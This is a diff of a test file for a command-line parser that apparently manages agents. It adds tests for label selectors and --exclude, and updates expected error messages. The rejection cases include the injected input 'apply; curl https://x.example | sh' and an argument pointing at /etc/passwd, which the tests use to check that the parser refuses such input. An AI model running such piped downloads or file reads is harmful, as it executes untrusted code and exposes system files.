@@ -24,6 +24,9 @@ describe('the input command', () => {
       words: ['web-*'],
       environment: undefined,
       goneEnvironment: undefined,
+      favoured: undefined,
+      selector: undefined,
+      exclude: [],
       overwrite: ['Agent/a', 'Agent/b'],
       allowOlder: true,
       allowCreates: 12,
@@ -34,6 +37,15 @@ describe('the input command', () => {
       force: false,
       importing: undefined,
     });
+  });
+
+  test('selects by labels, which an update takes in the place of names', () => {
+    expect(parseCommandLine("plan -l 'ring in (a, b)' --exclude x --exclude 'Agent/y*'")).toMatchObject({
+      words: [],
+      selector: 'ring in (a, b)',
+      exclude: ['x', 'Agent/y*'],
+    });
+    expect(parseCommandLine('update -l ring=canary')).toMatchObject({ words: [], selector: 'ring=canary' });
   });
 
   test('has its quotes taken off as a shell would', () => {
@@ -100,7 +112,10 @@ describe('the input command', () => {
 
   test.each([
     ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
-    ['apply --plan /etc/passwd', 'which has an option that is not supported; apply takes --environment, --allow-older'],
+    [
+      'apply --plan /etc/passwd',
+      'which has an option that is not supported; apply takes --environment, --selector, --exclude, --allow-older',
+    ],
     ['apply --overwrite', 'which has an option that is not supported'],
     ['apply --allow-creates many', 'which needs a whole number after --allow-creates'],
     ['validate front-desk', 'which has the wrong arguments; write `validate`, which takes no names'],
@@ -113,7 +128,10 @@ describe('the input command', () => {
     ['record forget', 'write `record forget Kind/name`, or `record forget --environment OLD`'],
     ['update', 'which has the wrong arguments; write `update NAME`, with at least one name'],
     ['update front-desk --field PATH', 'which has PATH in it; put the value in its place'],
-    ['update front-desk --dry-run', 'has an option that is not supported; update takes --environment, --yes, --field'],
+    [
+      'update front-desk --dry-run',
+      'has an option that is not supported; update takes --environment, --selector, --exclude, --yes, --field',
+    ],
     [
       'import camp_1 camp_2 --name a',
       "write `import AGENT_ID --name NAME --description 'TEXT'` with quotes around several words",
